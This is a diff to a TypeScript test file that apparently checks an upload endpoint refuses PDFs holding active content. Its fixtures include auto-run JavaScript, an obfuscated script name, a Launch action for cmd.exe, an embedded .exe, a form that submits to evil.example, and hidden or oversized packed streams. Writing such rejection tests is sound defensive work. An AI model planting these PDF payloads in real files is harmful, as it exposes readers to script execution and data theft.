@@ -1,5 +1,6 @@
 import { readdir } from 'node:fs/promises'
 import { join } from 'node:path'
+import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import { submitBid } from '#contract/bids.ts'
@@ -43,6 +44,23 @@ const zip = () => {
   const end = Buffer.alloc(22)
   end.writeUInt32LE(0x06054b50, 0)
   return join2(text('PK\x03\x04'), new Uint8Array(200), end)
+}
+/** A PDF whose catalog says this too. */
+const pdfWith = (more: string) =>
+  text(
+    Buffer.from(givenPdf()).toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${more}`),
+  )
+/** A PDF that holds an object among packed ones. */
+const packedPdf = (object: string, filter = '/Filter /FlateDecode') => {
+  const packed = new Uint8Array(deflateSync(object))
+  const head = `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${packed.length} >>\nstream\n`
+  const body = Buffer.from(givenPdf()).toString('latin1')
+  const at = body.indexOf('xref')
+  return join2(
+    text(`${body.slice(0, at)}${head}`),
+    packed,
+    text(`\nendstream\nendobj\n${body.slice(at)}`),
+  )
 }
 const unreadable = 'We cannot read this document. Send a PDF, JPG or PNG of up to 10 MB.'
 
@@ -101,6 +119,37 @@ describe('what is no document is refused by its content, with a sentence, and no
         unreadable,
       ])
     }
+  })
+
+  it.each([
+    [
+      'a script that runs when it is opened',
+      pdfWith('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+    ],
+    [
+      'a script under a name written in numbers',
+      pdfWith('/OpenAction << /S /#4aavaScri#70t /JS (x) >>'),
+    ],
+    ['a program that is started', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>')],
+    ['a file inside', pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>')],
+    [
+      'a form that is sent away',
+      pdfWith('/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>'),
+    ],
+    ['a script in packed objects', packedPdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
+    ['packed objects that nobody can look into', packedPdf('<< >>', '/Filter /LZWDecode')],
+    [
+      'packed objects under a lock',
+      join2(packedPdf('<< >>'), text('trailer << /Encrypt 9 0 R >>\nstartxref\n9\n%%EOF\n')),
+    ],
+    ['packed objects without end', packedPdf(' '.repeat(6_000_000))],
+  ])('a PDF with %s', async (_, file) => {
+    const answer = await send(documentForm('identity', file))
+    expect([answer.status, answer.refusal.code, answer.refusal.message]).toEqual([
+      400,
+      'not_a_document',
+      'This PDF holds more than pages: a script, another file, or a form that sends data. Print it to a new PDF, or send a photo.',
+    ])
   })
 
   it('a file of 0 bytes', async () => {
